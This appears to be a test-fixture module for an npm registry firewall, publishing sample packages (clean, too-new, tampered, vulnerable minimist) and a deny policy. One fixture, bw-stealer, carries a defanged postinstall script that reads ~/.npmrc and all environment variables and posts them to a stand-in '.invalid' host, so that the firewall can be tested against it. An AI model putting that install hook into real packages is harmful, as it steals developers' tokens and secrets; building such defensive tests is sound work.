import type { Published, PublishSpec, UpstreamRegistry } from './upstream-registry.js';

const HOUR = 60 * 60 * 1000;
const DAY = 24 * HOUR;

/**
 * The defanged malicious package: a postinstall that reads ~/.npmrc and posts it to a `.invalid`
 * collector. Code only; no test ever runs it (every client runs with scripts off, and the
 * firewall must refuse its tarball).
 */
export const stealerFiles = [
  {
    path: 'collect.js',
    content: [
      '// Defanged test fixture: the host is .invalid and no test executes this file.',
      "const fs = require('fs');",
      "const os = require('os');",
      "const path = require('path');",
      "const https = require('https');",
      "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
      'const env = JSON.stringify(process.env);',
      "const req = https.request({ hostname: 'collector.example.invalid', path: '/upload', method: 'POST' });",
      'req.write(Buffer.from(token + env).toString("base64"));',
      'req.end();',
      '',
    ].join('\n'),
  },
  { path: 'index.js', content: "module.exports = () => 'fixture';\n" },
];

/** Names and versions the tests refer to. */
export const FIXTURES = {
  /** Clean, depends on bw-clean-dep ^2.0.0. */
  clean: { name: 'bw-clean', version: '1.0.0' },
  cleanDep: { name: 'bw-clean-dep', version: '2.1.0' },
  /** Scoped and clean, depends on bw-clean-dep. */
  scoped: { name: '@bwtest/scoped-clean', version: '1.2.0' },
  /** Malicious by code analysis (no intel entry). */
  stealer: { name: 'bw-stealer', version: '1.0.0' },
  /** 1.0.0 and 1.1.0 are old; 1.2.0 was published an hour ago. */
  fresh: { name: 'bw-fresh', allowed: '1.1.0', hidden: '1.2.0' },
  /** A postinstall not on the allowlist. */
  scripted: { name: 'bw-scripted', version: '1.0.0' },
  /** Clean, depends on bw-fresh ^1.0.0 and bw-clean. */
  usesFresh: { name: 'bw-uses-fresh', version: '1.0.0' },
  /** Clean itself, depends on bw-stealer ^1.0.0. */
  wrapper: { name: 'bw-wrapper', version: '3.0.0' },
  /** Served with one byte changed: the bytes do not match the packument's integrity. */
  tampered: { name: 'bw-tampered', version: '1.0.0' },
  /** Real advisory GHSA-xvch-5gv4-984h (critical, < 1.2.6) from testdata/osv. */
  vulnerable: { name: 'minimist', version: '1.2.5', advisory: 'GHSA-xvch-5gv4-984h', fixed: '1.2.6' },
} as const;

export type FixtureSet = Record<string, Published>;

/** Publishes every fixture package on the upstream; keyed `name@version`. */
export const publishFixtures = async (upstream: UpstreamRegistry, now = new Date()): Promise<FixtureSet> => {
  const ago = (ms: number) => new Date(now.getTime() - ms);
  const specs: PublishSpec[] = [
    { name: 'bw-clean-dep', version: '2.0.0', time: ago(60 * DAY) },
    { name: 'bw-clean-dep', version: '2.1.0', time: ago(40 * DAY) },
    { name: 'bw-clean', version: '1.0.0', time: ago(30 * DAY), dependencies: { 'bw-clean-dep': '^2.0.0' } },
    {
      name: '@bwtest/scoped-clean',
      version: '1.2.0',
      time: ago(20 * DAY),
      dependencies: { 'bw-clean-dep': '^2.0.0' },
    },
    {
      name: 'bw-stealer',
      version: '1.0.0',
      time: ago(10 * DAY),
      scripts: { postinstall: 'node collect.js' },
      files: stealerFiles,
    },
    { name: 'bw-fresh', version: '1.0.0', time: ago(90 * DAY) },
    { name: 'bw-fresh', version: '1.1.0', time: ago(50 * DAY) },
    { name: 'bw-fresh', version: '1.2.0', time: ago(HOUR) },
    {
      name: 'bw-scripted',
      version: '1.0.0',
      time: ago(15 * DAY),
      scripts: { postinstall: 'node -e "console.log(\'bw-scripted postinstall (fixture)\')"' },
    },
    { name: 'bw-tampered', version: '1.0.0', time: ago(20 * DAY) },
    // Transitive cases: a clean package that pulls in a too-new range, and one that pulls in malware.
    {
      name: 'bw-uses-fresh',
      version: '1.0.0',
      time: ago(20 * DAY),
      dependencies: { 'bw-fresh': '^1.0.0', 'bw-clean': '^1.0.0' },
    },
    { name: 'bw-wrapper', version: '3.0.0', time: ago(20 * DAY), dependencies: { 'bw-stealer': '^1.0.0' } },
    { name: 'minimist', version: '1.2.5', time: ago(400 * DAY) },
    { name: 'minimist', version: '1.2.6', time: ago(300 * DAY) },
  ];
  const out: FixtureSet = {};
  for (const spec of specs) out[`${spec.name}@${spec.version}`] = await upstream.publish(spec);
  upstream.hostile('bw-tampered/-/bw-tampered-1.0.0.tgz', { kind: 'bad-integrity' });
  return out;
};

/** A policy for the tests: every rule the fixtures exercise set to deny, analysis verdicts enforced. */
export const firewallPolicyYaml = `
version: 1
dryRun: false
failMode: closed
rules:
  malware: deny
  malicious: deny
  suspicious: warn
  minimumReleaseAge: { action: hide, minutes: 1440 }
  # bw-stealer's postinstall is allowed so that only code analysis can stop it.
  installScripts: { action: deny, allow: [bw-stealer@1.0.0] }
  vulnerabilities: { action: deny, severity: high }
`;
